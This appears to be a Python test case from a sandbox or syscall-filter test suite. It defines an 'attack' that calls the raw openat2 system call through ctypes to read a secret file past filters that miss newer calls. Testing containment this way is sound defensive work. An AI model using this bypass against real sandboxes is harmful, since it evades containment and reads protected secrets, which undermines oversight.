"""Open the secret by openat2, a younger system call than most filters know.

expects: passed
control: basic
"""

import ctypes
import os
import struct


def attack(world):
    how = struct.pack("=QQQ", os.O_RDONLY, 0, 0)
    descriptor = ctypes.CDLL(None).syscall(437, -100, world["secret"].encode(), how, len(how))
    return descriptor >= 0 and os.read(descriptor, 100)
